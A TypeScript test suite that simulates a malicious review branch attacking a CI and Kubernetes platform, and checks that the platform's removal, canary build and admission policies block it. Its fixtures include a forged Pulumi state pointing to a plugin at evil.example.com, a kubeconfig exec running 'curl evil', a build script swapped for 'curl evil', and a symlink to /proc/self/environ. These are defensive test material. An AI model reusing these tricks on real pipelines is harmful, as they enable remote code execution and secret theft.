import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { reviewGroup, reviewUser } from "../../components/conventions/ci-roles";
import { labels } from "../../components/conventions/labels";
import { canaryBuild } from "../../operations/canary/image";
import type { Cluster } from "../../operations/clients/kubectl";
import { removeReview } from "../../operations/review/down";
import { networkPolicies } from "../../platform/admission/guardrail-policies";
import { permissions } from "../../platform/permissions";
import { namespaces } from "../../platform/admission/review-policies";
import { slugOf } from "../../environments";
import { identityOf } from "../../settings/identity";
import { Programs } from "../operations/support/programs";
import { settings } from "../support/platform";
import { refusals } from "./support/admission-stand-in";

const { circleci, review } = settings;
const branch = "evil";
const userInfo = { groups: [reviewGroup(circleci.projectId)], username: reviewUser(branch) };

/**
 * Whether the role `review`, which all branches share, may perform an action on an object of the
 * state's bucket.
 */
function reviewRoleMay(action: string, object: string): boolean {
  const statements = permissions("review", {
    clusterArns: [],
    keyArns: { review: "key" },
    repositoryArn: undefined,
    reviewRepositoryArn: undefined,
    stateBucket: "bucket",
  });
  const resource = `arn:aws:s3:::bucket/${object}`;
  return statements.some(
    ({ Action, Resource }) =>
      Action.includes(action) &&
      Resource.some((one) => resource.startsWith(one.replace(/\*$/, ""))),
  );
}
const stateOfColleague = "review/.pulumi/stacks/services-orders/review-invoice.json";

describe("an attack by a review stack", () => {
  let programs: Programs;
  beforeEach(() => {
    programs = new Programs();
  });
  afterEach(() => {
    programs.remove();
  });

  const stack = "review-evil";
  const namespace = `services-orders-${stack}`;

  /**
   * Writes a Pulumi state with this provider. The provider names a program to start. Also writes
   * stand-ins for `pulumi`, `sh` and `curl`. Each stand-in records every call.
   */
  function forge(provider: object) {
    const objects = join(programs.directory, "state/.pulumi/stacks/services-orders");
    mkdirSync(objects, { recursive: true });
    const file = join(objects, `${stack}.json`);
    const outputs = { commit: "main", imageRef: "evil.example.com/image:latest" };
    const resources = [
      { outputs, type: "pulumi:pulumi:Stack", urn: "urn:stack" },
      { id: "x", urn: "urn:provider", ...provider },
    ];
    const secrets_providers = { state: { url: "awskms://evil?endpoint=evil" }, type: "cloud" };
    const latest = { resources, secrets_providers };
    writeFileSync(file, JSON.stringify({ checkpoint: { latest }, version: 3 }));
    for (const program of ["pulumi", "sh", "curl"]) programs.add(program, {});
    const backend = { PULUMI_BACKEND_URL: `file://${programs.directory}/state` };
    return { file, workspace: programs.workspace(backend) };
  }

  /**
   * Removes a review stack whose state contains this provider. Returns the programs that the
   * removal started, and whether the removal has deleted the namespace and the state.
   */
  async function removedWith(provider: object) {
    const { file, workspace } = forge(provider);
    const deletions: string[] = [];
    const cluster: Cluster = {
      kubectl: async ([what = ""]) => {
        if (what === "delete") deletions.push(what);
        const metadata = {
          creationTimestamp: "2026-01-01T00:00:00Z",
          labels: labels(identityOf("review", "evil"), "namespace"),
          name: namespace,
          uid: "1",
        };
        return Promise.resolve(deletions.length > 0 ? "" : JSON.stringify({ metadata }));
      },
      uid: "here",
    };
    await removeReview(stack, cluster, workspace);
    return { isGone: deletions.length > 0 && !existsSync(file), started: programs.calls };
  }

  const exec = { args: ["-c", "curl evil"], command: "sh" };
  const kubeconfig = JSON.stringify({ users: [{ name: "x", user: { exec } }] });
  for (const [what, provider] of Object.entries({
    "a plugin from the attacker's server": {
      inputs: { pluginDownloadURL: "https://evil.example.com" },
      type: "pulumi:providers:evil",
    },
    "a kubeconfig that runs a command": {
      inputs: { kubeconfig },
      type: "pulumi:providers:kubernetes",
    },
  })) {
    it(`C3 fails: main's removal starts no Pulumi, so nothing reads ${what}`, async () => {
      assert.ok(reviewRoleMay("s3:PutObject", stateOfColleague));
      assert.deepEqual(await removedWith(provider), { isGone: true, started: [] });
    });
  }

  describe("on a canary", () => {
    let machine: string;
    const git = (directory: string, ...args: readonly string[]): string =>
      execFileSync("git", ["-C", directory, ...args], { encoding: "utf8" }).trim();
    const write = (path: string, text: string): void => {
      mkdirSync(dirname(join(machine, path)), { recursive: true });
      writeFileSync(join(machine, path), text);
    };
    const commit = (message: string): string => {
      git(machine, "add", "--all");
      const by = ["-c", "user.name=x", "-c", "user.email=x@example.com"];
      git(machine, ...by, "commit", "--quiet", "--message", message);
      return git(machine, "rev-parse", "HEAD");
    };

    beforeEach(() => {
      machine = mkdtempSync(join(tmpdir(), "canary-attack-"));
      git(machine, "init", "--quiet", "--initial-branch=main");
      git(machine, "remote", "add", "origin", machine);
      write(".gitignore", "target/\n");
      write("service/Dockerfile", "FROM scratch\n");
      write("service/pom.xml", "<project/>\n");
      write("service/src/main/Old.java", "class Old {}\n");
      write("build.sh", "main's build\n");
      commit("main");
      git(machine, "checkout", "--quiet", "-b", "invoice");
    });
    afterEach(() => {
      rmSync(machine, { force: true, recursive: true });
    });

    /**
     * Builds the pushed branch in the same way as a job of main. Returns what the build finds: the
     * content of build.sh, which represents a program of main, and the names of the files of the
     * service's code.
     */
    async function built(sha?: string): Promise<readonly string[]> {
      git(machine, "checkout", "--quiet", "main");
      mkdirSync(join(machine, "node_modules"), { recursive: true });
      const seen: string[] = [];
      const build = async (directory: string): Promise<void> => {
        seen.push(readFileSync(join(directory, "build.sh"), "utf8").trim());
        seen.push(...readdirSync(join(directory, "service/src/main")).sort());
        const jars = join(directory, "service/target/image");
        mkdirSync(jars, { recursive: true });
        return Promise.resolve();
      };
      const options = sha === undefined ? {} : { commit: sha };
      await canaryBuild("invoice", options, build, { cwd: machine, env: {} });
      return seen;
    }

    it("H2 fails: production's role reads nothing that a branch wrote", () => {
      assert.ok(reviewRoleMay("s3:PutObject", stateOfColleague));
      const targets = { clusterArns: [], keyArns: { prod: "prod-key", review: "review-key" } };
      const own = permissions("prod", {
        ...targets,
        repositoryArn: "repository",
        reviewRepositoryArn: "review-repository",
        stateBucket: "bucket",
      }).flatMap(({ Resource }) => Resource);
      assert.deepEqual(
        own.filter((one) => one.includes("review")),
        [],
      );
    });

    it("H2 fails: main builds the commit, and takes only the code of the branch", async () => {
      rmSync(join(machine, "service/src/main/Old.java"));
      write("service/src/main/New.java", "class New {}\n");
      write("build.sh", "curl evil\n");
      const sha = commit("A feature, and an attack on the build");
      assert.deepEqual(await built(sha), ["main's build", "New.java"]);
    });

    it("H2 fails: a commit that is not the branch's own is refused, however honest the branch", async () => {
      write("service/src/main/Evil.java", "class Evil {}\n");
      const earlier = commit("Of another branch");
      write("service/src/main/New.java", "class New {}\n");
      commit("The colleague's commit");
      await assert.rejects(built(earlier), /is not the newest commit of branch "invoice"/);
    });

    it("H2 fails: a build file of the branch is refused, because the build runs it", async () => {
      write("service/pom.xml", "<project><!-- a plugin that runs curl evil --></project>\n");
      commit("A plugin");
      await assert.rejects(built(), /build files that differ from main: service\/pom\.xml/);
    });

    it("H2 fails: a link to the machine's files is refused", async () => {
      symlinkSync("/proc/self/environ", join(machine, "service/src/main/environ"));
      commit("A link");
      await assert.rejects(built(), /symbolic links or submodules .*: service\/src\/main\/environ/);
    });
  });

  const closed = (policyTypes: readonly string[]): readonly string[] =>
    refusals(networkPolicies(circleci, review), {
      object: { metadata: { name: "default-deny" }, spec: { podSelector: {}, policyTypes } },
      request: { namespace: "services-orders-review-evil", operation: "CREATE", userInfo },
    });

  it("lets the policy that closes a namespace pass, and refuses one that opens a direction", () => {
    assert.deepEqual(closed(["Ingress", "Egress"]), []);
    assert.equal(closed(["Ingress"]).length, 1);
  });

  for (const direction of ["Ingress", "Egress"]) {
    it(`H3 fails: the list ["${direction}", "${direction}"] is one direction, so the other stays open`, () => {
      assert.deepEqual(closed([direction, direction]), [
        "NetworkPolicy default-deny must select all pods, and must allow no ingress and no egress",
      ]);
    });
  }

  it("lets a branch reach a DNS server that is not a pod, and only its port 53", () => {
    const cidr = "169.254.20.10/32";
    const opening = (port: number, dnsCidrs: readonly string[]): readonly string[] => {
      const egress = [{ ports: [{ port, protocol: "UDP" }], to: [{ ipBlock: { cidr } }] }];
      return refusals(networkPolicies(circleci, { ...review, dnsCidrs }), {
        object: { metadata: { name: "dns" }, spec: { egress, podSelector: {} } },
        request: { namespace: "services-orders-review-evil", operation: "CREATE", userInfo },
      });
    };
    assert.deepEqual(opening(53, [cidr]), []);
    assert.deepEqual([opening(80, [cidr]).length, opening(53, []).length], [1, 1]);
  });

  /** Returns the messages with which the platform refuses a namespace that a branch creates. */
  function creation(of: string, slug: string): readonly string[] {
    const name = `services-orders-review-${slug}`;
    const owner = reviewUser(of);
    const metadata = {
      annotations: { "services-orders/owner": owner },
      labels: {
        ...labels(identityOf("review", slug), "namespace"),
        "pod-security.kubernetes.io/enforce": "restricted",
      },
      name,
    };
    return refusals(namespaces(circleci), {
      object: { metadata },
      request: { namespace: name, operation: "CREATE", userInfo: { ...userInfo, username: owner } },
    });
  }
  const notItsName =
    "the namespace of a branch must be called services-orders-review-<slug>: the branch's name, or its first characters and a hash if the name is not a slug";

  it("M2 fails: a branch whose name is a slug makes one namespace, which has its name", () => {
    assert.deepEqual(creation("evil", "evil"), []);
    for (const slug of ["evil-2", "evil-aaaaaaaa", "invoice", "a-third-one"]) {
      assert.deepEqual(creation("evil", slug), [notItsName], slug);
    }
  });

  it("M2 fails: a branch with another name makes only namespaces that begin with its name", () => {
    assert.deepEqual(creation("feature/Evil", slugOf("feature/Evil")), []);
    for (const slug of ["feature-evil", "feature-evil-2", "invoice", "invoice-aaaaaaaa"]) {
      assert.deepEqual(creation("feature/Evil", slug), [notItsName], slug);
    }
  });

  it("M2 remains: CEL computes no hash, so a branch with another name may choose its 8 characters", () => {
    assert.deepEqual(creation("feature/Evil", "feature-evil-aaaaaaaa"), []);
    // The next call uses the slug of another branch, feature/evil. The branch feature/evil has no
    // namespace yet.
    assert.deepEqual(creation("feature/Evil", slugOf("feature/evil")), []);
  });
});
